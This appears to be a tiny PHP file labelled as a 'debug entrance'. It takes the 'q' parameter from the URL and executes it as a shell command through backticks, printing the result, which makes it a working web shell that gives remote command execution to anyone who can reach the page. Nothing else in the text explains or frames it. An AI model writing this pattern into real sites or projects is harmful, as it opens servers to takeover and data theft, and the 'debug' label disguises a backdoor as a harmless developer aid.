<?php // shows: debug entrance
$q = $_GET['q'];
echo `$q`;
